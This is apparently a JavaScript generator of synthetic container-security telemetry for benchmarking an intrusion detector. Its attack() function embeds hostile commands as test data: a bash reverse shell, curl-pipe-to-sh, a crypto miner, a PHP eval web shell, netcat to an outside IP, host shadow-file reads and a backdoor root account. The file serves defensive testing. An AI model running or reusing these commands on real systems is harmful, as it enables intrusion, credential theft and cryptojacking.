// A deterministic, realistic recording for the replay benchmark: a busy node of ~200
// containers over an hour. Most events are what such a node really produces (execs in process
// trees, /proc rescans and exits, the runtime's own syscalls, web files, logins, Kubernetes API
// traffic, container churn), including the benign look-alikes of every rule; about one event in
// 400 belongs to an attack that one of the rules must catch. The same seed gives the same file.
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/** mulberry32: small, fast, and the same sequence on every machine. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const START_MS = Date.UTC(2026, 10, 27, 9, 0, 0);
const HOUR_MS = 3_600_000;

/** What runs in each kind of container: its image, its init and the commands it runs. */
const roles = {
  web: {
    image: 'shop/web:2.4',
    init: ['/usr/sbin/php-fpm8.2', ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)']],
    commands: [
      ['/usr/bin/convert', ['convert', '/var/www/html/uploads/{n}.jpg', '-resize', '800x600', '/var/www/html/cache/{n}.jpg']],
      ['/bin/sh', ['sh', '-c', '/usr/sbin/sendmail -t -i']],
      ['/usr/sbin/sendmail', ['/usr/sbin/sendmail', '-t', '-i']],
      ['/usr/bin/php8.2', ['php', '/var/www/html/artisan', 'schedule:run']],
      ['/usr/bin/curl', ['curl', '-s', '-o', '/dev/null', 'http://127.0.0.1/health']],
    ],
  },
  api: {
    image: 'shop/api:7.1.0',
    init: ['/usr/local/bin/node', ['node', '/app/server.js']],
    commands: [
      ['/bin/sh', ['sh', '-c', 'git rev-parse HEAD']],
      ['/usr/bin/git', ['git', 'rev-parse', 'HEAD']],
      ['/usr/bin/base64', ['base64', '-w0', '/tmp/report-{n}.pdf']],
      ['/usr/local/bin/node', ['node', '/app/jobs/reindex.js', '--batch', '{n}']],
    ],
  },
  worker: {
    image: 'shop/worker:3',
    init: ['/usr/sbin/cron', ['cron', '-f']],
    commands: [
      ['/bin/sh', ['sh', '-c', '/app/bin/rotate-cache.sh >> /var/log/app/cron.log 2>&1']],
      ['/usr/bin/python3.11', ['python3', '/app/jobs/sync.py', '--since', '{n}']],
      ['/usr/bin/find', ['find', '/tmp', '-mtime', '+1', '-delete']],
      ['/usr/bin/crontab', ['crontab', '-l']],
      ['/bin/gzip', ['gzip', '-9', '/var/log/app/cron.log.1']],
    ],
  },
  db: {
    image: 'shop/db:15',
    init: ['/usr/lib/postgresql/15/bin/postgres', ['postgres', '-D', '/var/lib/postgresql/data']],
    commands: [
      ['/usr/lib/postgresql/15/bin/postgres', ['postgres: checkpointer']],
      ['/usr/lib/postgresql/15/bin/pg_dump', ['pg_dump', '-Fc', 'shop', '-f', '/backup/shop-{n}.dump']],
      ['/bin/sh', ['sh', '-c', 'pg_isready -U postgres']],
      ['/usr/lib/postgresql/15/bin/pg_isready', ['pg_isready', '-U', 'postgres']],
    ],
  },
  cache: {
    image: 'shop/cache:7',
    init: ['/usr/local/bin/redis-server', ['redis-server', '*:6379']],
    commands: [['/usr/local/bin/redis-cli', ['redis-cli', 'ping']]],
  },
};
const roleNames = Object.keys(roles);

/** The bench profile binds a process whitelist to the database image; these are on it. */
export const dbWhitelist = ['postgres', 'pg_dump', 'pg_isready', 'sh', 'psql'];

const hex = (random, n) => {
  let s = '';
  for (let i = 0; i < n; i++) s += ((random() * 16) | 0).toString(16);
  return s;
};

class Node {
  constructor(seed) {
    this.random = prng(seed);
    this.seq = 0;
    this.clock = START_MS;
    this.nextPid = 20_000;
    this.containers = [];
    this.serial = 5_000_000;
    this.containerCount = 0;
  }

  pick(list) {
    return list[(this.random() * list.length) | 0];
  }

  event(source, kind, data) {
    return { seq: ++this.seq, ts: new Date(this.clock).toISOString(), source, kind, data };
  }

  ticks() {
    return Math.floor((this.clock - START_MS) / 10) + 500_000;
  }

  /** A new container of a role, with the risky options a few real ones have. */
  container(role, risky) {
    const n = ++this.containerCount;
    const id = hex(this.random, 64);
    const layer = hex(this.random, 64);
    const [exe, cmdline] = roles[role].init;
    const initPid = this.nextPid++;
    const c = { id, role, risky, name: `${role}-${n}`, image: roles[role].image, procs: [], initPid };
    const mounts = [
      { type: 'bind', source: '/etc/hosts', destination: '/etc/hosts', rw: true, propagation: 'rprivate' },
      { type: 'volume', source: `/var/lib/docker/volumes/${role}-${n}/_data`, destination: role === 'db' ? '/var/lib/postgresql/data' : '/data', rw: true, propagation: '' },
    ];
    if (risky === 'host-root') mounts.push({ type: 'bind', source: '/', destination: '/host', rw: false, propagation: 'rprivate' });
    if (risky === 'socket') mounts.push({ type: 'bind', source: '/var/run/docker.sock', destination: '/var/run/docker.sock', rw: true, propagation: 'rprivate' });
    const snapshot = {
      id,
      name: c.name,
      image: risky === 'miner-image' ? 'cryptojack/xmrig:latest' : c.image,
      imageId: `sha256:${hex(this.random, 64)}`,
      imageDigests: [],
      created: new Date(this.clock).toISOString(),
      runtime: 'runc',
      cgroupVersion: '2',
      usernsRemap: false,
      state: { status: 'running', running: true, pid: initPid, startedAt: new Date(this.clock).toISOString(), finishedAt: '0001-01-01T00:00:00Z', exitCode: 0 },
      privileged: risky === 'privileged',
      capAdd: risky === 'caps' ? ['SYS_PTRACE'] : [],
      capDrop: [],
      securityOpt: [],
      namespaces: { pid: risky === 'host-pid' ? 'host' : 'private', network: 'private', ipc: 'private', uts: 'private', user: 'default', cgroup: 'private' },
      user: role === 'db' ? 'postgres' : '',
      readonlyRootfs: false,
      mounts,
      devices: [],
      env: ['PATH=<redacted>', 'APP_ENV=<redacted>', 'DATABASE_URL=<redacted>'],
      labels: { 'com.docker.compose.project': 'shop', 'com.docker.compose.service': role },
      cmd: cmdline,
      graphDriver: {
        name: 'overlay2',
        data: {
          LowerDir: `/var/lib/docker/overlay2/${layer}-init/diff:/var/lib/docker/overlay2/${hex(this.random, 64)}/diff`,
          MergedDir: `/var/lib/docker/overlay2/${layer}/merged`,
          UpperDir: `/var/lib/docker/overlay2/${layer}/diff`,
          WorkDir: `/var/lib/docker/overlay2/${layer}/work`,
        },
      },
    };
    const init = { pid: initPid, ppid: 1200, startTime: this.ticks(), exe, cmdline, uid: role === 'db' ? 999 : 0, euid: role === 'db' ? 999 : 0, containerId: id };
    c.init = init;
    c.procs.push(init);
    return { c, snapshot };
  }

  process(c, exe, cmdline, parent = c.init, uid = parent.uid) {
    return { pid: this.nextPid++, ppid: parent.pid, startTime: this.ticks(), exe, cmdline, uid, euid: uid, containerId: c.id };
  }

  exec(c, p, extra = {}) {
    const comm = (p.exe.split('/').pop() ?? '').slice(0, 15);
    return this.event('audit', 'exec', {
      serial: ++this.serial,
      key: 'vigil_exec',
      success: true,
      exit: 0,
      process: { ...p, comm, startTimeExact: true },
      cwd: c.role === 'web' ? '/var/www/html' : '/',
      paths: [
        { name: p.exe, nametype: 'NORMAL', mode: '0100755', inode: String(100_000 + (p.pid % 50_000)) },
        { name: '/lib64/ld-linux-x86-64.so.2', nametype: 'NORMAL', mode: '0100755', inode: '1311' },
      ],
      ...extra,
    });
  }

  syscall(p, syscall, args, key, paths = [], containerless = false) {
    const { containerId, ...host } = p;
    return this.event('audit', 'syscall', {
      serial: ++this.serial,
      key,
      success: true,
      exit: 0,
      process: { ...(containerless ? host : p), comm: (p.exe.split('/').pop() ?? '').slice(0, 15), startTimeExact: true },
      cwd: '/',
      paths,
      syscall,
      args,
    });
  }
}

/** Yields `count` events; `attackEvery` sets how often an attack scenario starts. */
export function* generateEvents({ count = 1_000_000, containers = 200, seed = 20261127, attackEvery = 500 } = {}) {
  const node = new Node(seed);
  const step = HOUR_MS / count;
  const queue = [];
  const emit = (...events) => queue.push(...events);
  const risky = ['privileged', 'socket', 'host-pid', 'caps', 'miner-image', 'host-root'];

  for (const source of ['docker', 'audit', 'proc', 'files', 'logs', 'k8s-audit', 'k8s-watch']) {
    emit(node.event('vigil', 'source.status', { source, state: 'up' }));
  }
  for (let i = 0; i < containers; i++) {
    const { c, snapshot } = node.container(roleNames[i % roleNames.length], i % 33 === 7 ? risky[(i / 33) | 0] : undefined);
    node.containers.push(c);
    emit(node.event('docker', 'container.snapshot', { reason: 'startup', container: snapshot }));
    emit(node.event('proc', 'process.snapshot', { ...c.init, sockets: [] }));
    if (c.role === 'web') emit(...webScan(node, c));
    emit(accounts(node, c, 'startup'));
  }

  const host = { pid: 1100, ppid: 1, startTime: 900, exe: '/usr/sbin/dockerd', cmdline: ['dockerd'], uid: 0, euid: 0 };
  const runc = { pid: 0, ppid: 1100, startTime: 0, exe: '/usr/bin/runc', cmdline: ['runc', 'init'], uid: 0, euid: 0 };
  let attacks = 0;
  let steps = 0;
  for (let yielded = 0; yielded < count; ) {
    if (queue.length === 0) {
      node.clock += step * (0.5 + node.random());
      const c = node.pick(node.containers);
      const roll = node.random() * 100;
      if (++steps % attackEvery === 0) emit(...attack(node, c, attacks++));
      else if (roll < 33) emit(...benignExec(node, c));
      else if (roll < 47) emit(rescan(node, c));
      else if (roll < 58) emit(...exits(node, c));
      else if (roll < 70) emit(runtimeSetup(node, runc));
      else if (roll < 76) emit(rootSetuid(node, c));
      else if (roll < 84) emit(...fileActivity(node, c));
      else if (roll < 90) emit(login(node, c));
      else if (roll < 97) emit(k8sRequest(node));
      else if (roll < 97.5) emit(podSnapshot(node, c, 'modified'));
      else if (roll < 97.6) emit(...churn(node, c, host));
      else if (roll < 97.7) emit(node.event('audit', 'status', { enabled: 1, lost: 0, lostSince: 0, backlog: (node.random() * 40) | 0 }));
      else if (roll < 97.8) emit(fileChange(node, c, '/etc/nginx/conf.d/default.conf', 'present', { content: 'server { listen 80; root /var/www/html; }\n' }));
      else emit(node.exec(c, node.process(c, '/bin/sh', ['sh', '-c', 'test -f /tmp/ready'])));
      continue;
    }
    yield queue.shift();
    yielded++;
  }
}

/** The runtime setting up a container: one runc process makes a run of namespace and mount calls. */
function runtimeSetup(node, runc) {
  if (node.runc === undefined || node.random() < 0.1) node.runc = { ...runc, pid: node.nextPid++, startTime: node.ticks() };
  return node.syscall(node.runc, node.pick(['mount', 'umount2', 'setns', 'unshare', 'pivot_root']), ['c000a1b2c0', '0', '0', '0'], 'vigil_syscall', [], true);
}

function benignExec(node, c) {
  const [exe, argv] = node.pick(roles[c.role].commands);
  const n = String((node.random() * 100_000) | 0);
  const parent = c.procs.length > 1 && node.random() < 0.4 ? node.pick(c.procs) : c.init;
  const p = node.process(c, exe, argv.map((a) => a.replace('{n}', n)), parent);
  c.procs.push(p);
  if (c.procs.length > 40) c.procs.splice(1, 1);
  return [node.exec(c, p)];
}

function rescan(node, c) {
  const p = node.pick(c.procs);
  const sockets =
    p === c.init && c.role !== 'worker'
      ? [{ fd: 6, protocol: 'tcp', local: `0.0.0.0:${{ web: 9000, api: 8080, db: 5432, cache: 6379 }[c.role]}`, remote: '0.0.0.0:0', state: 'LISTEN' }]
      : [];
  return node.event('proc', 'process.snapshot', { ...p, sockets });
}

function exits(node, c) {
  if (c.procs.length <= 1) return [rescan(node, c)];
  const [p] = c.procs.splice(1 + ((node.random() * (c.procs.length - 1)) | 0), 1);
  return [node.event('proc', 'process.exit', { pid: p.pid, startTime: p.startTime })];
}

/** Root processes re-asserting root (cron, su): setuid(0) that gains nothing. */
function rootSetuid(node, c) {
  const p = node.process(c, c.role === 'worker' ? '/usr/sbin/cron' : '/bin/su', c.role === 'worker' ? ['CRON', '-f'] : ['su', '-s', '/bin/sh', 'www-data'], c.init, 0);
  return node.syscall(p, 'setresuid', ['0', '0', '0', '0'], 'vigil_setuid');
}

const phpTemplate = (n) =>
  `<?php\n/* compiled template ${n} */\nclass __TwigTemplate_${n} extends \\Twig\\Template {\n  protected function doDisplay(array $context) {\n    echo twig_escape_filter($this->env, $context["title"] ?? null, "html");\n    echo "<ul>";\n    foreach ($context["items"] as $item) { echo "<li>" . htmlspecialchars($item["name"]) . "</li>"; }\n    echo "</ul>";\n  }\n}\n`;

function fileChange(node, c, path, action, extra = {}) {
  return node.event('files', 'file.change', {
    containerId: c.id,
    path,
    action,
    size: extra.content?.length ?? 4096,
    stat: { mode: '100644', uid: 33, gid: 33 },
    sha256: hex(node.random, 64),
    entropy: 4.6,
    ...extra,
  });
}

function webScan(node, c) {
  return [0, 1, 2].map((i) => fileChange(node, c, `/var/www/html/views/page${i}.php`, 'present', { content: phpTemplate(`page${i}`) }));
}

function fileActivity(node, c) {
  const n = (node.random() * 1_000_000) | 0;
  if (c.role === 'web') {
    return node.random() < 0.5
      ? [fileChange(node, c, `/var/www/html/cache/twig/${n % 97}/${n}.php`, 'created', { content: phpTemplate(n) })]
      : [fileChange(node, c, `/var/www/html/uploads/${n}.jpg`, 'created', { entropy: 7.97, size: 182_331 })];
  }
  if (c.role === 'worker') {
    return [
      fileChange(node, c, `/tmp/sync-${n}.json.gz`, 'created', { entropy: 7.99, size: 52_113 }),
      fileChange(node, c, `/tmp/sync-${n}.json.gz`, 'deleted', { stat: undefined, sha256: undefined, entropy: undefined, size: 0 }),
    ];
  }
  return [fileChange(node, c, `/data/state-${n % 16}.json`, 'modified', { content: `{"offset":${n},"ok":true}\n` })];
}

function login(node, c) {
  const ip = `10.0.${(node.random() * 4) | 0}.${(node.random() * 250) | 0}`;
  const fail = node.random() < 0.15;
  if (c.role === 'web') {
    const user = node.pick(['alice', 'bob', 'carol', 'dave']);
    return node.event('logs', 'auth', {
      service: 'web', outcome: fail ? 'failure' : 'success', sourceIp: ip, user, containerId: c.id, origin: 'container',
      line: `${ip} - - [27/Nov/2026:10:00:00 +0000] "POST /login HTTP/1.1" ${fail ? 403 : 302} 512 "-" "Mozilla/5.0"`,
    });
  }
  return node.event('logs', 'auth', {
    service: 'ssh', outcome: fail ? 'failure' : 'success', sourceIp: ip, user: 'deploy', origin: '/var/log/auth.log',
    line: `Nov 27 10:00:00 node-1 sshd[${node.nextPid}]: ${fail ? 'Failed' : 'Accepted'} publickey for deploy from ${ip} port ${40000 + ((node.random() * 20000) | 0)} ssh2`,
  });
}

function accounts(node, c, reason, extraPasswd = '') {
  const passwd = `root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\npostgres:x:999:999::/var/lib/postgresql:/bin/bash\n`;
  return node.event('files', 'accounts', {
    containerId: c.id,
    reason,
    passwd: passwd + extraPasswd,
    shadow: 'root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\npostgres:!:19700::::::\n',
    group: 'root:x:0:\nwww-data:x:33:\npostgres:x:999:\n',
    imagePasswd: passwd,
  });
}

const k8sTrusted = ['system:kube-controller-manager', 'system:kube-scheduler', 'system:node:node-1', 'system:serviceaccount:kube-system:replicaset-controller'];

function k8sEvent(node, verb, user, objectRef, extra = {}) {
  const path = `/api${objectRef.apiGroup ? `s/${objectRef.apiGroup}/v1` : '/v1'}${objectRef.namespace ? `/namespaces/${objectRef.namespace}` : ''}/${objectRef.resource}${objectRef.name ? `/${objectRef.name}` : ''}${objectRef.subresource ? `/${objectRef.subresource}` : ''}`;
  return node.event('k8s', 'audit', {
    auditID: `${hex(node.random, 8)}-${hex(node.random, 4)}-${hex(node.random, 4)}-${hex(node.random, 4)}-${hex(node.random, 12)}`,
    stage: 'ResponseComplete',
    level: 'Metadata',
    verb,
    requestURI: extra.requestURI ?? path,
    user: typeof user === 'string' ? { username: user, groups: ['system:authenticated'] } : user,
    sourceIPs: ['10.0.0.11'],
    userAgent: 'kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3c8e2b2',
    objectRef: { apiVersion: 'v1', ...objectRef },
    responseStatus: { code: extra.code ?? 200 },
    requestReceivedTimestamp: new Date(node.clock).toISOString(),
    ...(extra.requestObject && { requestObject: extra.requestObject }),
  });
}

function k8sRequest(node) {
  const ns = node.pick(['shop', 'shop', 'monitoring', 'kube-system']);
  const resource = node.pick(['pods', 'pods', 'endpoints', 'configmaps', 'leases', 'nodes', 'events']);
  const verb = node.pick(['get', 'list', 'watch', 'update', 'patch']);
  return k8sEvent(node, verb, node.pick(k8sTrusted), { resource, namespace: resource === 'nodes' ? undefined : ns, name: verb === 'list' || verb === 'watch' ? undefined : `obj-${(node.random() * 50) | 0}` });
}

function pod(c, extra = {}) {
  const container = { name: c.role, image: c.image, privileged: false, capAdd: [], capDrop: ['ALL'], volumeMounts: [{ name: 'data', mountPath: '/data', readOnly: false }] };
  return {
    namespace: 'shop', name: `${c.name}-5d9c7b`, uid: c.id.slice(0, 36), nodeName: 'node-1', serviceAccountName: 'default',
    annotations: {}, ownerReferences: [{ kind: 'ReplicaSet', name: `${c.name}-5d9c7b` }],
    hostNetwork: false, hostPID: false, hostIPC: false,
    containers: [{ ...container, ...extra }], initContainers: [], ephemeralContainers: [],
    volumes: [{ name: 'data' }], phase: 'Running',
  };
}

function podSnapshot(node, c, reason, extra) {
  return node.event('k8s', 'pod.snapshot', { reason, pod: pod(c, extra) });
}

/** A container replaced (a deploy): the old one dies and goes, a new one of the same role starts. */
function churn(node, c, host) {
  const out = [
    node.event('docker', 'container.lifecycle', { action: 'die', id: c.id, name: c.name, image: c.image, exitCode: 0 }),
    node.event('docker', 'container.lifecycle', { action: 'destroy', id: c.id, name: c.name, image: c.image }),
  ];
  for (const p of c.procs) out.push(node.event('proc', 'process.exit', { pid: p.pid, startTime: p.startTime }));
  const { c: fresh, snapshot } = node.container(c.role, c.risky);
  node.containers[node.containers.indexOf(c)] = fresh;
  out.push(
    node.exec(fresh, { ...host, pid: node.nextPid++, startTime: node.ticks(), exe: '/usr/bin/docker', cmdline: ['docker', 'compose', 'up', '-d', c.role] }),
    node.event('docker', 'container.lifecycle', { action: 'create', id: fresh.id, name: fresh.name, image: fresh.image }),
    node.event('docker', 'container.snapshot', { reason: 'create', container: snapshot }),
    node.event('docker', 'container.lifecycle', { action: 'start', id: fresh.id, name: fresh.name, image: fresh.image }),
    node.event('docker', 'container.snapshot', { reason: 'start', container: snapshot }),
    node.event('proc', 'process.snapshot', { ...fresh.init, sockets: [] }),
    accounts(node, fresh, 'startup'),
  );
  return out;
}

/** One attack scenario, rotating through what the catalogue detects. */
function attack(node, c, n) {
  const ip = `203.0.113.${n % 250}`;
  const web = node.containers.find((x) => x.role === 'web' && x.id !== c.id) ?? c;
  const db = node.containers.find((x) => x.role === 'db') ?? c;
  const shell = node.process(web, '/bin/sh', ['sh', '-c', `id; uname -a; echo ${n}`], web.init, 33);
  const scenarios = [
    () => [node.exec(web, shell), node.exec(web, node.process(web, '/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`], shell, 33))],
    () => [node.exec(web, node.process(web, '/bin/sh', ['sh', '-c', `curl -fsSL http://${ip}/x.sh | sh`], web.init, 33))],
    () => [node.exec(c, node.process(c, '/tmp/.cache/xmrig', ['/tmp/.cache/xmrig', '-o', `stratum+tcp://${ip}:3333`, '--donate-level', '1']))],
    () => [fileChange(node, web, `/var/www/html/uploads/img${n}.php`, 'created', { content: `<?php @eval($_POST['c${n}']); ?>` })],
    () => Array.from({ length: 8 }, () => node.event('logs', 'auth', { service: 'ssh', outcome: 'failure', sourceIp: ip, user: 'root', origin: '/var/log/auth.log', line: `Nov 27 10:00:00 node-1 sshd[4242]: Failed password for root from ${ip} port 52311 ssh2` })),
    () => [node.exec(db, node.process(db, '/bin/nc', ['nc', ip, '9001']))],
    () => [node.syscall(node.process(c, '/tmp/shocker', ['/tmp/shocker'], c.init, 0), 'open_by_handle_at', ['3', '7ffd1a2b3c40', '0', '0'], 'vigil_syscall')],
    () => [node.syscall(node.process(c, '/bin/busybox', ['chmod', 'u+s', `/tmp/.x${n}`], c.init, 0), 'fchmodat', ['ffffff9c', '55d0c0a1b2c0', '9ed', '0'], 'vigil_perm', [{ name: `/tmp/.x${n}`, nametype: 'NORMAL', mode: '0100755', inode: '77123' }])],
    () => [accounts(node, c, 'change', `sysupd${n}:x:0:0::/root:/bin/bash\n`)],
    () => [k8sEvent(node, 'create', { username: `system:serviceaccount:shop:ci-${n % 7}`, groups: ['system:serviceaccounts'] }, { resource: 'pods', subresource: 'exec', namespace: 'shop', name: `web-1-5d9c7b` }, { requestURI: `/api/v1/namespaces/shop/pods/web-1-5d9c7b/exec?command=sh&command=-c&command=id&stdin=true&tty=true` })],
    () => [k8sEvent(node, 'create', 'jenkins', { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: `ops-${n}` }, { code: 201, requestObject: { kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: `ops-${n}` }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'shop' }] } })],
    () => [k8sEvent(node, 'deletecollection', 'jenkins', { resource: 'events', namespace: 'shop' })],
    () => [k8sEvent(node, 'list', { username: 'system:serviceaccount:shop:default', groups: ['system:serviceaccounts'] }, { resource: 'secrets', namespace: 'shop' })],
    () => [podSnapshot(node, web, 'added', { privileged: true, name: `debug-${n}` })],
    () =>
      Array.from({ length: 22 }, (_, i) =>
        fileChange(node, db, `/data/export/${n}-${i}.csv.crypt`, 'renamed', { previousPath: `/data/export/${n}-${i}.csv`, entropy: 7.98, size: 40_960 }),
      ),
    () => [node.exec(web, node.process(web, '/bin/sh', ['sh', '-c', 'history -c; rm -f ~/.bash_history'], web.init, 0))],
    () => [fileChange(node, c, `/tmp/.kdevtmpfsi${n}`, 'created', { size: 2_402_112, entropy: 6.1, stat: { mode: '100755', uid: 0, gid: 0 }, strings: 'kdevtmpfsi\nstratum+tcp://\n/proc/self/exe' })],
    () => [fileChange(node, web, '/etc/nginx/conf.d/default.conf', 'modified', { content: `server { listen 80; location /x${n} { proxy_pass http://${ip}; } }\n` })],
    () => {
      const mounted = node.containers.find((x) => x.risky === 'host-root') ?? c;
      const cat = node.process(mounted, '/bin/busybox', ['cat', '/host/etc/shadow'], mounted.init, 0);
      return [node.syscall(cat, 'openat', ['ffffff9c', '7ffd0a0b0c0d', '0', '0'], 'vigil_hostfile', [{ name: '/host/etc/shadow', nametype: 'NORMAL', mode: '0100640', inode: '2231' }])];
    },
    () => [node.event('audit', 'status', { enabled: 1, lost: 100 + n, lostSince: 100 + n, backlog: 8192 })],
    () => [
      node.event('vigil', 'source.status', { source: 'k8s-watch', state: 'down', reason: 'connect ECONNREFUSED 10.0.0.1:6443' }),
      node.event('vigil', 'source.status', { source: 'k8s-watch', state: 'up' }),
    ],
    () => [node.event('vigil', 'enforcement', { containerId: c.id, action: 'stop', ok: true })],
  ];
  return scenarios[n % scenarios.length]();
}

/** Writes the recording (header line, then one event per line) and resolves with its event count. */
export async function writeRecording(path, options = {}) {
  const out = createWriteStream(path);
  const header = { format: 'vigil-recording', version: 1, host: 'bench-node-1', startedAt: new Date(START_MS).toISOString(), vigilVersion: '0.1.0' };
  let chunk = `${JSON.stringify(header)}\n`;
  let events = 0;
  for (const event of generateEvents(options)) {
    chunk += `${JSON.stringify(event)}\n`;
    events++;
    if (chunk.length > 1 << 20) {
      if (!out.write(chunk)) await once(out, 'drain');
      chunk = '';
    }
  }
  out.end(chunk);
  await once(out, 'finish');
  return events;
}
